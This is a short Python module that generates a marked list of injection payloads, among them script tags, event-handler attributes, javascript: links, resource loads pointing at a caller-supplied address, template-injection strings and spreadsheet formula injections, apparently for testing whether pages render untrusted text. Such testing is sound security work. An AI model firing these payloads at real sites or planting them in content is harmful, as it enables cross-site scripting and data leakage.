"""Texts that would act if any place took them for more than text: markup, script, styles, formulas, templates."""

MARK = "ZQX{n}"  # stands in each payload, so that what became of it can be found on a page


def payloads(address):
    """Return payloads, each with its own mark; whatever of them acts sets `window.hit` or asks for *address*."""
    act = "window.hit=1"
    fetch = f"fetch('{address}')"
    shapes = [
        f"<script>{act}</script>", f"<SCRIPT SRC='{address}'></SCRIPT>", f"</script><script>{act}</script>",
        f"<!--<script>{act}</script>-->", f"--><script>{act}</script>", f"<img src=x onerror='{act}'>",
        f"<img src='{address}'>", f"<svg onload='{act}'></svg>", f"<svg><script>{act}</script></svg>",
        f"<svg><use href='{address}#x'/></svg>", f"<iframe src='{address}'></iframe>",
        "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", f"<object data='{address}'></object>",
        f"<embed src='{address}'>", f"<link rel=stylesheet href='{address}'>", f"<link rel=prefetch href='{address}'>",
        f"<base href='{address}'>", f"<meta http-equiv=refresh content='0;url={address}'>",
        f"<style>@import '{address}';</style>", f"<style>body{{background:url({address})}}</style>",
        f"<div style='background:url({address})'>", f"<form action='{address}'><button autofocus>x</button></form>",
        f"<input autofocus onfocus='{act}'>", f"<details open ontoggle='{act}'>", f"<video src='{address}' autoplay>",
        f"<audio src='{address}' autoplay>", f"<body onload='{act}'>", f"<math href='javascript:{act}'>x</math>",
        f"<a href='javascript:{act}'>x</a>", f"<a ping='{address}' href='#'>x</a>", f"[x](javascript:{act})",
        f"![x]({address})", f"[x]: {address}", f"\"><script>{act}</script>", f"' onmouseover='{act}' x='",
        f"</title><script>{act}</script>", f"</style><script>{act}</script>", f"</textarea><script>{act}</script>",
        f"]]><script>{act}</script>", f"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'>{act}",
        "{{7*7}}", "{% for x in range(9) %}9{% endfor %}", "${window.hit=1}", f"=HYPERLINK(\"{address}\",\"x\")",
        "@SUM(1+1)", "+1+1", "-1+1", "datum['x']", "$x$ \\href{x}{y}", "&lt;script&gt;", "&#60;script&#62;",
        f"<plaintext>{fetch}", "<table><tr><td>", "</q></td></tr></table>", "</svg></figure>",
    ]  # fmt: skip
    return [f"{MARK.format(n=number)} {shape}" for number, shape in enumerate(shapes)]
